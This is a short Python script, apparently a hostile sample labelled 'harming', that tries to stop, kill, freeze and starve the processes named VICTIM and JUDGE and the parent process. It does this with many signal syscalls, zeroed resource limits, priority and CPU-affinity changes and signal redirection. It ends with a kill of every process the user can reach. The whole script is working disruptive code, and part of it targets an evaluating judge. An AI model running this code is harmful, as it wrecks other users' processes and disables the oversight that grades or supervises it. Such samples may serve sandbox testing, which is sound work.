# harming, levels: wrong
# Stops, ends, slows and limits the processes of the user.
import ctypes, fcntl, os, resource, signal, struct
libc = ctypes.CDLL(None)
def one(how):
    try:
        how()
    except Exception:
        pass
for who in (VICTIM, JUDGE, os.getppid()):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        one(lambda: os.kill(who, number))
        one(lambda: libc.syscall(234, who, who, int(number)))
        one(lambda: libc.syscall(200, who, int(number)))
        one(lambda: libc.syscall(129, who, int(number), bytes(128)))
    one(lambda: signal.pidfd_send_signal(os.pidfd_open(who), signal.SIGKILL))
    one(lambda: resource.prlimit(who, resource.RLIMIT_CPU, (0, 0)))
    one(lambda: resource.prlimit(who, resource.RLIMIT_AS, (0, 0)))
    one(lambda: os.setpriority(os.PRIO_PROCESS, who, 19))
    one(lambda: os.sched_setaffinity(who, {0}))
    one(lambda: fcntl.fcntl(1, fcntl.F_SETOWN, who))
    one(lambda: fcntl.fcntl(1, 15, struct.pack('ii', 1, who)))
one(lambda: fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_ASYNC))
one(lambda: os.kill(-1, signal.SIGKILL))
one(lambda: os.killpg(0, signal.SIGURG))
level = 'nothing'
